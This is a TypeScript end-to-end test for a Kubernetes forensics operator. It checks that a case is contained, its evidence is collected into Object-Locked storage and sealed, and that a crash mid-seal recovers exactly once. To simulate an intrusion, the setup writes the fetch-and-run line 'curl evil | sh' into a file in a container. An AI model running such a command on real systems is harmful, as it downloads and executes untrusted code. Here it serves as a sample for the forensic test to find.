import { PatchStrategy, setHeaderOptions, type KubeConfig } from '@kubernetes/client-node';
import type { Counter } from 'prom-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GROUP, VERSION } from '../../../src/api/common.js';
import { loadVerificationKey } from '../../../src/evidence/keys.js';
import { MANIFEST_NAME, openManifest } from '../../../src/evidence/manifest.js';
import { AMBER_VERSION } from '../../../src/evidence/tool.js';
import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
import { verifyCase } from '../../../src/evidence/verify.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { installCrds } from '../../testenv/crds.js';
import { startCluster, type Cluster } from '../../testenv/kube.js';
import { startMinio, type Minio } from '../../testenv/minio.js';
import { startCaseController } from '../../testenv/operator.js';
import { CuttableProxy, throughProxy } from '../../testenv/proxy.js';
import { OPERATOR_USER, operatorKubeConfig } from '../../testenv/rbac.js';
import { startContainer, type TestContainer } from '../../testenv/runc.js';
import { waitFor } from '../../testenv/wait.js';
import { Workloads, type CaseView } from '../../testenv/workload.js';
import { createPod, createSigningKeySecret, markRunning, objectVersions } from './helpers.js';

type SealedView = CaseView & {
  status?: CaseView['status'] & {
    manifest?: { uri: string; sha256: string };
    artifacts?: { name: string; sha256: string }[];
  };
};

/**
 * Inline collection end to end: a real API server, MinIO with Object Lock and a real runc
 * container on this machine. The Node has no kwok annotation (nothing fakes it) and the test
 * writes the pod's status as the kubelet would, its containerID naming the runc container.
 */
describe('inline collection: contained -> collected -> sealed', () => {
  let cluster: Cluster;
  let minio: Minio;
  let c: TestContainer;
  let w: Workloads;
  let publicKeyPem: string;
  let operator: Awaited<ReturnType<typeof startCaseController>>;
  const node = 'node-real';
  const store = () =>
    new S3EvidenceStore({
      client: minio.client(),
      bucket: minio.bucket,
      prefix: 'amber',
      registry: createRegistry(),
    });
  /** endpointFromOperator: the case names no S3 endpoint; each operator's default applies. */
  const caseSpec = (pod: string, opts: { endpointFromOperator?: boolean } = {}) => ({
    target: { namespace: 'shop', pod },
    reason: 'test: file dropped in /tmp',
    alert: {
      rule: 'Drop and execute new binary in container',
      priority: 'Critical',
      time: '2026-11-23T03:39:44.834631763Z',
      source: 'syscall',
    },
    evidence: {
      store: {
        type: 's3',
        bucket: minio.bucket,
        prefix: 'amber/',
        ...(!opts.endpointFromOperator && { endpoint: minio.endpoint }),
      },
      retention: { mode: 'GOVERNANCE', days: 1 },
    },
  });
  const startOperator = async (
    opts: {
      afterStep?: (step: string, caseName: string) => void;
      kc?: KubeConfig;
      /** The operator's default S3 endpoint, for cases that name none. */
      s3Endpoint?: string;
    } = {},
  ) =>
    startCaseController(opts.kc ?? (await operatorKubeConfig(cluster)), {
      afterStep: opts.afterStep,
      retryBaseDelayMs: opts.afterStep ? 600_000 : undefined,
      collection: {
        mode: 'inline',
        evidence: {
          credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
          ...(opts.s3Endpoint && { endpoint: opts.s3Endpoint }),
        },
        // The sandbox hides PID 1's namespaces: this test process stands for the host.
        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: c.stateRoot } },
        snapshotterRoots: c.layerRoots,
      },
    });

  beforeAll(async () => {
    [cluster, minio, c] = await Promise.all([
      startCluster(),
      startMinio(),
      // Attacker-like: drops a script in /tmp and keeps running.
      startContainer({
        command: [
          '/bin/sh',
          '-c',
          'printf "curl evil | sh\\n" > /tmp/implant.sh; touch /ready; exec sleep 600',
        ],
      }),
    ]);
    await c.waitForFile('/ready');
    const admin = cluster.kubeConfig();
    await installCrds(admin);
    w = new Workloads(admin);
    await w.core.createNode({
      body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } },
    });
    await w.namespace('shop');
    await w.core.createNamespacedServiceAccount({ namespace: 'shop', body: { metadata: { name: 'web' } } });
    await operatorKubeConfig(cluster); // the operator namespace and RBAC, before the Secret
    ({ publicKeyPem } = await createSigningKeySecret(admin));
    for (const pod of ['victim', 'victim-crash']) {
      await createPod(admin, 'shop', pod, node, { serviceAccountName: 'web' });
      await markRunning(admin, 'shop', pod, `runc://${c.id}`);
    }
  });
  afterAll(async () => {
    await operator?.stop();
    await c?.stop();
    await minio?.stop();
    await cluster?.stop();
  });

  it('seals the container and the orchestrator view; verify passes; the dropped file is there', async () => {
    operator = await startOperator();
    const started = Date.now();
    await w.createCase('case-inline', caseSpec('victim'));
    const kase = (await w.waitForPhase('case-inline', 'Sealed', 90_000)) as SealedView;
    console.log(`inline: ForensicCase created -> Sealed in ${((Date.now() - started) / 1000).toFixed(2)} s`);
    // The collector's outcome, in the operator's own metrics.
    const outcomes = await (
      operator.registry.getSingleMetric('amber_collection_containers_total') as Counter
    ).get();
    expect(outcomes.values).toEqual([{ labels: { outcome: 'reported' }, value: 1 }]);

    const actions = (kase.status?.timeline ?? []).map((e) => e.action);
    expect(actions).toEqual([
      'IsolateNetwork',
      'LabelPod',
      'ContainNode',
      'CollectOrchestrator',
      'CollectEvidence',
      'SealEvidence',
    ]);
    const collected = kase.status?.conditions?.find((x) => x.type === 'EvidenceCollected');
    expect(collected).toMatchObject({ status: 'True', reason: 'Collected' });
    expect(collected?.message).toMatch(/^1 of 1 containers collected/);

    const s = store();
    const location = s.caseLocation('case-inline');
    const report = await verifyCase(location, {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(report.artifacts.filter((a) => a.status !== 'ok')).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.manifest.case).toMatchObject({ id: 'case-inline', namespace: 'shop', pod: 'victim', node });

    const names = (kase.status?.artifacts ?? []).map((a) => a.name);
    const short = c.id.slice(0, 12);
    for (const n of [
      'pod.yaml',
      'events.yaml',
      'serviceaccount.yaml',
      'rbac.yaml',
      'node.yaml',
      'alerts.json',
      'report.json',
    ])
      expect(names).toContain(`orchestrator/${n}`);
    for (const n of [
      'processes.json',
      'network.json',
      'filesystem/diff.json',
      'filesystem/writable-layer.tar',
      'report.json',
    ])
      expect(names).toContain(`containers/${short}/${n}`);
    expect(names).not.toContain(MANIFEST_NAME);

    const diff = await readText(s, 'case-inline', `containers/${short}/filesystem/diff.json`);
    expect(JSON.parse(diff).changes).toEqual(
      expect.arrayContaining([expect.objectContaining({ path: '/tmp/implant.sh', kind: 'A' })]),
    );
    const alerts = JSON.parse(await readText(s, 'case-inline', 'orchestrator/alerts.json')) as {
      triggering: { rule: string; time: string };
    };
    expect(alerts.triggering).toMatchObject({
      rule: 'Drop and execute new binary in container',
      time: '2026-11-23T03:39:44.834631763Z',
    });
    const podYaml = await readText(s, 'case-inline', 'orchestrator/pod.yaml');
    expect(podYaml).toContain(`runc://${c.id}`);
    expect(podYaml).toContain('forensics.amber.io/quarantined'); // as read at collection time, after containment
    // No kubelet serves this node's logs: the gap is recorded, the rest went on.
    const orch = JSON.parse(await readText(s, 'case-inline', 'orchestrator/report.json')) as {
      gaps: { what: string }[];
    };
    expect(orch.gaps.map((g) => g.what)).toContain('logs of main (current)');

    const manifest = (await s.list('case-inline')).find((a) => a.name === MANIFEST_NAME);
    expect(kase.status?.manifest).toEqual({
      uri: manifest?.uri,
      sha256: manifest?.sha256,
      versionId: manifest?.versionId,
    });
    expect(report.manifest.complete).toBe(true);
    expect(report.manifest.findings ?? []).toEqual([]);
    // The chain of custody: the operator as the API server knows it, the tool, its version, zoned times.
    const opened = openManifest(
      await readText(s, 'case-inline', MANIFEST_NAME),
      loadVerificationKey(publicKeyPem),
    );
    const custody = opened.statement?.predicate.custody ?? [];
    expect(custody.map((c) => c.step)).toEqual(
      expect.arrayContaining(['IsolateNetwork', 'CollectOrchestrator', 'collect container main', 'seal']),
    );
    for (const c of custody) {
      expect(c.actor).toEqual({ kind: 'operator', name: OPERATOR_USER });
      expect(c.tool.version).toBe(AMBER_VERSION);
      expect(c.tool.name).toBe(c.step.startsWith('collect container') ? 'amber collect' : 'amber operator');
      expect(c.finishedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    }
    const sealedArtifact = opened.statement?.predicate.artifacts.find(
      (a) => a.name === 'orchestrator/pod.yaml',
    );
    expect(sealedArtifact).toMatchObject({
      bucket: minio.bucket,
      key: 'amber/case-inline/orchestrator/pod.yaml',
      versionId: expect.any(String),
      retainUntil: expect.any(String),
    });
    expect(opened.statement?.predicate.case).toMatchObject({
      containers: [expect.objectContaining({ id: c.id, runtime: 'runc' })],
    });
  });

  it('a pass after Sealed writes nothing new', async () => {
    const before = await objectVersions(minio.client(), minio.bucket, 'amber/case-inline/');
    const passes = async () =>
      (await (operator.registry.getSingleMetric('amber_reconcile_total') as Counter).get()).values.reduce(
        (n, v) => n + v.value,
        0,
      );
    const seen = await passes();
    await w.custom.patchClusterCustomObject(
      {
        group: GROUP,
        version: VERSION,
        plural: 'forensiccases',
        name: 'case-inline',
        body: { metadata: { annotations: { poke: '1' } } },
      },
      setHeaderOptions('Content-Type', PatchStrategy.MergePatch),
    );
    await waitFor('another reconcile pass', passes, (n) => n > seen);
    expect(await objectVersions(minio.client(), minio.bucket, 'amber/case-inline/')).toEqual(before);
    expect(((await w.getCase('case-inline')) as SealedView).status?.phase).toBe('Sealed');
  });

  it('a crash between the manifest upload and the status write: the next operator finishes with the same manifest, exactly once', async () => {
    await operator.stop();
    // The doomed operator reaches the API server and the store through proxies; at the crash
    // point both are cut, so nothing it still had queued or in flight (a watch event that
    // enqueues the case again, a retry) can reach the world: it can neither seal nor write.
    // The case names no endpoint, so each operator reaches the store its own way.
    const [apiLine, s3Line] = await Promise.all([
      CuttableProxy.start(Number(new URL(cluster.server).port)),
      CuttableProxy.start(Number(new URL(minio.endpoint).port)),
    ]);
    let crashed = false;
    const doomed = await startOperator({
      kc: throughProxy(await operatorKubeConfig(cluster), apiLine),
      s3Endpoint: `http://127.0.0.1:${s3Line.port}`,
      afterStep: (step, caseName) => {
        if (caseName !== 'case-crash') return;
        if (step === 'seal' || crashed) {
          if (!crashed) {
            // What made the old version of this test flaky, made certain: an event about the
            // case arrives while the pass runs, so the queue runs the case again at once.
            doomed.controller.enqueue(caseName);
          }
          // A dead process takes no further step either.
          crashed = true;
          apiLine.cut();
          s3Line.cut();
          throw new Error(`simulated crash after ${step}`);
        }
      },
    });
    const failedPasses = async () =>
      (await (doomed.registry.getSingleMetric('amber_reconcile_total') as Counter).get()).values
        .filter((v) => v.labels.result === 'error')
        .reduce((n, v) => n + v.value, 0);
    await w.createCase('case-crash', caseSpec('victim-crash', { endpointFromOperator: true }));
    await waitFor(
      'crash at seal',
      async () => crashed,
      (x) => x,
      90_000,
    );
    // The crashed pass and the one the event brought back have both ended, in failure.
    await waitFor('the pass after the crash', failedPasses, (n) => n >= 2);
    await doomed.stop();
    await Promise.all([apiLine.close(), s3Line.close()]);
    const afterCrash = await w.getCase('case-crash');
    expect(afterCrash.status?.phase).not.toBe('Sealed');
    expect(afterCrash.status?.conditions?.find((x) => x.type === 'EvidenceSealed')?.status).not.toBe('True');
    const everything = () => objectVersions(minio.client(), minio.bucket, 'amber/case-crash/');
    const stored = await everything();
    expect(stored.filter((v) => v.startsWith(`amber/case-crash/${MANIFEST_NAME}@`))).toHaveLength(1);

    operator = await startOperator({ s3Endpoint: minio.endpoint });
    const kase = (await w.waitForPhase('case-crash', 'Sealed', 90_000)) as SealedView;
    // Exactly once: no object written again (not the manifest, not an artifact), ...
    expect(await everything()).toEqual(stored);
    const manifest = (await store().list('case-crash')).find((a) => a.name === MANIFEST_NAME);
    expect(kase.status?.manifest?.sha256).toBe(manifest?.sha256);
    expect(kase.status?.conditions?.find((x) => x.type === 'EvidenceSealed')?.message).toMatch(
      /sealed by an earlier pass/,
    );
    // ... no step recorded twice, ...
    const actions = (kase.status?.timeline ?? []).map((e) => e.action);
    expect(actions).toEqual([...new Set(actions)]);
    expect(actions).toEqual(
      expect.arrayContaining(['CollectOrchestrator', 'CollectEvidence', 'SealEvidence']),
    );
    // ... and what the crashed operator sealed verifies as this case's evidence.
    const report = await verifyCase(store().caseLocation('case-crash'), {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(report.ok).toBe(true);
    expect(report.manifest.case).toMatchObject({ id: 'case-crash', pod: 'victim-crash' });
  });
});

async function readText(store: S3EvidenceStore, caseId: string, name: string): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of await store.get(caseId, name)) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}
